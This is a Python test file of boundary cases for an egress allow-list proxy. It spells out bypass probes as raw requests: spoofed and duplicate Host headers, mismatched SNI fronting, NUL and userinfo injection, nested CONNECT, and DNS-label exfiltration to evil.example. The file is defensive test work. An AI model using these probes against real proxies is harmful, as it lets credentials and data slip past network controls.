"""One destination: what was judged is what is reached, whatever name stands elsewhere in the bytes."""

from tests.boundary.case import Anew, Case, Connect, Expect, Read, Send, Step, Tls, Wanted, inside, plainly, request
from tests.boundary.scenery import PUBLIC

_EVIL = "https://evil.example/"
_FOUR = "m12.four-way"
CONTROL = "shows that what is allowed passes: a proxy that refuses everything would fail here alone"

BY_HOST = "the naive addon looks at Host, so it refuses this one; one that looks at the target does not"

VERIFIED = "stock mitmproxy verifies too; one option (ssl_insecure) turns it off"


def _certified(name: str, threat: str) -> Case:
    host = f"{name}.example"
    return Case(
        f"identity-{name}",
        f"an upstream shows a certificate of a known CA {threat}",
        inside(host, request(host)),
        ("m12.wrong-cert", "f4.1"),
        Expect(asked=(host,), dialled=(f"{PUBLIC[host]}:443",)),
        kept=VERIFIED,
    )


def _head(*lines: str) -> str:
    return "\r\n".join([*lines, "", ""])


def _bad(id_: str, threat: str, probe: tuple[Step, ...], *origins: str, kept: str = "") -> Case:
    return Case(f"identity-{id_}", threat, probe, origins, kept=kept)


_IN_GOOD = {
    "fronting": (
        "another Host on the tunnel of an allowed host",
        _head("GET / HTTP/1.1", "Host: evil.example"),
        "f4.2",
    ),
    "host-port": ("another port in Host", _head("GET / HTTP/1.1", "Host: good.example:8443"), _FOUR),
    "absolute-in-tunnel": (
        "an absolute URL of another host inside the tunnel",
        _head(f"GET {_EVIL} HTTP/1.1", "Host: good.example"),
        "m12.absolute-form",
    ),
    "absolute-in-tunnel-both": (
        "an absolute URL and Host of another host inside the tunnel",
        _head(f"GET {_EVIL} HTTP/1.1", "Host: evil.example"),
        "m12.absolute-form",
    ),
    "absolute-http-in-tunnel": (
        "an absolute http URL inside the tunnel",
        _head("GET http://evil.example/ HTTP/1.1", "Host: good.example"),
        "m12.absolute-form",
    ),
    "two-hosts": (
        "two Host fields, the second for another host",
        _head("GET / HTTP/1.1", "Host: good.example", "Host: evil.example"),
        "m12.duplicate-host",
    ),
    "two-hosts-reversed": (
        "two Host fields, the first for another host",
        _head("GET / HTTP/1.1", "Host: evil.example", "Host: good.example"),
        "m12.duplicate-host",
    ),
    "two-equal-hosts": (
        "the same Host twice",
        _head("GET / HTTP/1.1", "Host: good.example", "Host: good.example"),
        "m12.duplicate-host",
    ),
    "no-host": ("no Host", _head("GET / HTTP/1.1"), _FOUR),
    "empty-host": ("an empty Host", _head("GET / HTTP/1.1", "Host:"), _FOUR),
    "host-user": ("user information in Host", _head("GET / HTTP/1.1", "Host: good.example@evil.example"), "f4.4"),
    "host-nul": ("NUL in Host", _head("GET / HTTP/1.1", "Host: evil.example\0.good.example"), "f4.4"),
    "host-list": ("two names in one Host", _head("GET / HTTP/1.1", "Host: good.example, evil.example"), "f4.4"),
    "host-bracket": ("a Host that URL parsers choke on", _head("GET / HTTP/1.1", "Host: [x"), "f4.9"),
    "nested-connect": (
        "CONNECT inside the tunnel",
        _head("CONNECT evil.example:443 HTTP/1.1", "Host: evil.example:443"),
        "f4.3",
    ),
}

CASES = (
    Case(
        "identity-control",
        "an allowed request, with the credential of its host",
        inside("good.example", request("good.example", "/control")),
        (_FOUR,),
        Expect("answered", (Wanted("good.example", "/control", secret=True),)),
        kept=CONTROL,
    ),
    _bad(
        "eager",
        "a denied host is contacted before it is refused",
        inside("evil.example", request("evil.example")),
        "m12.eager",
        "f4.11",
    ),
    _bad(
        "eager-label",
        "data in the labels of a denied name leaves by DNS",
        inside("c2VjcmV0.evil.example", request("c2VjcmV0.evil.example")),
        "m12.eager",
        "f4.38",
    ),
    Case(
        "identity-eager-scan",
        "a CONNECT alone shows whether a port of a denied host is open",
        (Connect("evil.example:443"),),
        ("m12.eager", "f4.11"),
        Expect("either"),
    ),
    Case(
        "identity-eager-allowed",
        "a CONNECT alone reaches an allowed host before any request was judged",
        (Connect("good.example:443"), Tls("good.example")),
        ("m12.eager",),
        Expect("either"),
    ),
    _bad(
        "host-spoof",
        "a tunnel to the attacker, and Host of an allowed host: the credential goes to the attacker",
        inside("evil.example", request("good.example")),
        "f4.1",
        _FOUR,
    ),
    _bad(
        "host-spoof-sni",
        "the same, with the allowed name in TLS too",
        (Connect("evil.example:443"), Tls("good.example"), Send(request("good.example")), Read()),
        "f4.1",
        _FOUR,
    ),
    _bad(
        "host-spoof-address",
        "a tunnel to an address of the attacker, and Host of an allowed host",
        (Connect("11.0.0.66:443"), Tls("good.example"), Send(request("good.example")), Read()),
        "f4.1",
        "f4.36",
    ),
    _bad(
        "sni-evil",
        "the attacker's server name on the tunnel of an allowed host",
        (Connect("good.example:443"), Tls("evil.example"), Send(request("good.example")), Read()),
        "f4.2",
        _FOUR,
    ),
    _bad(
        "sni-below",
        "a server name below the allowed one",
        (Connect("good.example:443"), Tls("x.good.example"), Send(request("good.example")), Read()),
        "f4.2",
        _FOUR,
    ),
    Case(
        "identity-no-sni",
        "a client without a server name",
        (Connect("good.example:443"), Tls(None), Send(request("good.example", "/nosni")), Read()),
        (_FOUR,),
        Expect("answered", (Wanted("good.example", "/nosni", secret=True),)),
        kept=CONTROL,
    ),
    _bad(
        "connect-host",
        "a CONNECT to the attacker with an allowed Host",
        (
            Connect(
                "evil.example:443",
                headers="",
                head="CONNECT evil.example:443 HTTP/1.1\r\nHost: good.example:443\r\n\r\n",
            ),
            Tls("good.example"),
            Send(request("good.example")),
            Read(),
        ),
        _FOUR,
    ),
    _bad(
        "plain-host-spoof",
        "http: the URL of the attacker, Host of an allowed host",
        plainly("GET http://evil.example/ HTTP/1.1\r\nHost: good.example\r\n\r\n"),
        "f4.1",
        "m12.absolute-form",
    ),
    _bad(
        "plain-host-spoof-plain",
        "http: the URL of the attacker, Host of a host that is allowed over http",
        plainly("GET http://evil.example/ HTTP/1.1\r\nHost: plain.example\r\n\r\n"),
        "f4.1",
        "m12.absolute-form",
    ),
    _bad(
        "plain-address-spoof",
        "http: a URL with the attacker's address, Host of an allowed host",
        plainly("GET http://11.0.0.66/ HTTP/1.1\r\nHost: plain.example\r\n\r\n"),
        "f4.1",
    ),
    _bad(
        "plain-other-host",
        "http: an allowed URL, Host of the attacker",
        plainly("GET http://plain.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n"),
        "f4.2",
        "m12.absolute-form",
        kept=BY_HOST,
    ),
    _bad(
        "plain-two-hosts",
        "http: two Host fields",
        plainly("GET http://plain.example/ HTTP/1.1\r\nHost: plain.example\r\nHost: evil.example\r\n\r\n"),
        "m12.duplicate-host",
        kept=BY_HOST,
    ),
    _bad(
        "plain-denied",
        "http: a URL that no rule allows",
        plainly("GET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n"),
        "f4.23",
        kept="the plainest case of an allow list; every proxy has to pass it",
    ),
    _bad(
        "plain-path",
        "http: an absolute URL gets past rules for the path of an https host",
        plainly("GET http://paths.example/secret HTTP/1.1\r\nHost: paths.example\r\n\r\n"),
        "f4.23",
        kept="peers skipped path rules for absolute URLs; the naive addon happens not to",
    ),
    _bad(
        "plain-origin-form",
        "a request in origin form at the proxy's own port",
        plainly(request("good.example")),
        "m12.origin-form",
    ),
    _bad(
        "plain-origin-form-evil",
        "a request in origin form at the proxy's own port, for another host",
        plainly(request("evil.example")),
        "m12.origin-form",
        kept="the naive addon refuses by the name in Host; the case above shows why that is luck",
    ),
    Case(
        "identity-keep-alive",
        "the second request of a judged tunnel goes elsewhere",
        inside("good.example", request("good.example", "/first"), request("evil.example", "/second")),
        ("f4.3", "f4.37"),
        Expect("refused", (Wanted("good.example", "/first", secret=True),)),
        kept=BY_HOST,
    ),
    Case(
        "identity-keep-alive-plain",
        "http: the second request of a connection is for another host",
        plainly(
            "GET http://plain.example/first HTTP/1.1\r\nHost: plain.example\r\n\r\n",
            "GET http://evil.example/second HTTP/1.1\r\nHost: plain.example\r\n\r\n",
        ),
        ("f4.3", "f4.37"),
        Expect("refused", (Wanted("plain.example", "/first", plain=True),)),
    ),
    Case(
        "identity-plain-then-connect",
        "a connection that was allowed over http opens a tunnel elsewhere",
        (
            *plainly("GET http://plain.example/first HTTP/1.1\r\nHost: plain.example\r\n\r\n"),
            Connect("evil.example:443"),
            Tls("evil.example"),
            Send(request("evil.example")),
            Read(),
        ),
        ("f4.3", "f4.37"),
        Expect("refused", (Wanted("plain.example", "/first", plain=True),)),
    ),
    Case(
        "identity-reuse",
        "an upstream connection is dialled anew, or another's, where the checked one should be kept",
        inside("free.example", *(request("free.example", f"/{turn}") for turn in range(3))),
        ("m12.reuse",),
        Expect("answered", tuple(Wanted("free.example", f"/{turn}") for turn in range(3)), dials=1),
        kept="a fix that pins the address and loses the connection is the known mistake; the naive addon pins nothing",
    ),
    Case(
        "identity-two-tunnels",
        "two tunnels share what was judged for one of them",
        (
            *inside("good.example", request("good.example", "/one")),
            Anew(),
            *inside("evil.example", request("evil.example", "/two")),
        ),
        ("f4.3",),
        Expect("refused", (Wanted("good.example", "/one", secret=True),)),
    ),
    *(
        Case(f"identity-{name}", threat, inside("good.example", data), (origin,))
        for name, (threat, data, origin) in _IN_GOOD.items()
    ),
    _certified("name-nul", "whose name goes on behind a NUL"),
    _certified("constrained", "that may sign for other names alone"),
    _certified("client-cert", "that is for clients"),
    Case(
        "identity-chained",
        "an upstream shows a certificate with a CA between: the same chain as the three before, with nothing wrong",
        inside("chained.example", request("chained.example", "/chained")),
        ("m12.wrong-cert",),
        Expect("answered", (Wanted("chained.example", "/chained"),)),
        kept=CONTROL,
    ),
    Case(
        "identity-empty-policy",
        "an empty allow list is read as: everything",
        inside("good.example", request("good.example")),
        ("f4.5",),
        setup="empty",
    ),
    Case(
        "identity-empty-policy-plain",
        "an empty allow list is read as: everything, over http",
        plainly("GET http://plain.example/ HTTP/1.1\r\nHost: plain.example\r\n\r\n"),
        ("f4.5",),
        setup="empty",
        kept="sandbox runtimes fell here (CVE-2025-66479); the naive addon happens to read its list right",
    ),
)
